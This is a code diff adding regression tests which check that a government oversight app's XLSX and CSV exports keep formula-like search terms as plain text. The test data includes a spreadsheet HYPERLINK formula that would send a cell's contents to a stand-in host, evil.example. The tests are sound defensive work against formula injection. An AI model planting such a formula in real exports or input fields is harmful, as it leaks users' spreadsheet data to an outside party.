@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import subprocess
 from decimal import Decimal
 from typing import Any
 
@@ -78,3 +79,57 @@ def test_an_export_is_limited_to_the_overseers_area(area: Any) -> None:
         a.code for a in area.agencies if a.district_id == area.districts[0].pk
     }
     assert c.get("/oversight/province/71/export.csv").status_code == 404
+
+
+EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"คลิก")'
+
+
+def _as_libreoffice_shows(path: Any) -> dict[str, list[list[str]]]:
+    """Every sheet of an XLSX as LibreOffice Calc shows it, through its CSV export (UTF-8)."""
+    subprocess.run(
+        ["soffice", f"-env:UserInstallation=file://{path.parent}/profile", "--headless",
+         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
+         "--outdir", str(path.parent), str(path)],
+        check=True, capture_output=True, timeout=180,
+    )  # fmt: skip
+    return {
+        csv_file.stem.removeprefix(path.stem + "-"): list(
+            csv.reader(io.StringIO(csv_file.read_text("utf-8")))
+        )
+        for csv_file in path.parent.glob(f"{path.stem}-*.csv")
+    }
+
+
+def test_a_search_term_is_written_as_text_not_as_a_live_formula(area: Any, tmp_path: Any) -> None:
+    # the search term went into the summary sheet as a formula: opening the export ran it
+    from urllib.parse import quote
+
+    c = area.client("province")
+    xlsx = c.get(f"/oversight/province/71/export.xlsx?q={quote(EVIL)}")
+    assert xlsx.status_code == 200
+    summary = load_workbook(io.BytesIO(xlsx.content))["สรุป"]
+    cell = next(r[1] for r in summary.iter_rows() if r[0].value == "ค้นหา")
+    assert cell.value == EVIL and cell.data_type == "s"
+    (tmp_path / "export.xlsx").write_bytes(xlsx.content)
+    shown = _as_libreoffice_shows(tmp_path / "export.xlsx")["สรุป"]
+    # the text itself, not the formula's result "คลิก"
+    assert ["ค้นหา", EVIL] in [row[:2] for row in shown]
+
+
+def test_every_export_keeps_formula_like_text_as_data(tmp_path: Any) -> None:
+    from openpyxl import Workbook
+
+    from prongsai.core.spreadsheets import csv_row, xlsx_append
+
+    texts = [EVIL, "+66 2 123 4567", "- ข้อแรก", "@SUM(A1:A9)", "-1+2", "ปกติ"]
+    wb = Workbook()
+    ws = wb.active
+    ws.title = "s"
+    xlsx_append(ws, [*texts, 12.5])
+    wb.save(tmp_path / "t.xlsx")
+    back = load_workbook(tmp_path / "t.xlsx")["s"]
+    assert [c.value for c in back[1]] == [*texts, 12.5]
+    assert [c.data_type for c in back[1]] == ["s"] * len(texts) + ["n"]
+    assert _as_libreoffice_shows(tmp_path / "t.xlsx")["s"] == [[*texts, "12.5"]]
+    # CSV has no types: there the usual apostrophe keeps a formula from running
+    assert csv_row([EVIL, "- ข้อแรก", "ปกติ", None, 3]) == ["'" + EVIL, "'- ข้อแรก", "ปกติ", "", 3]
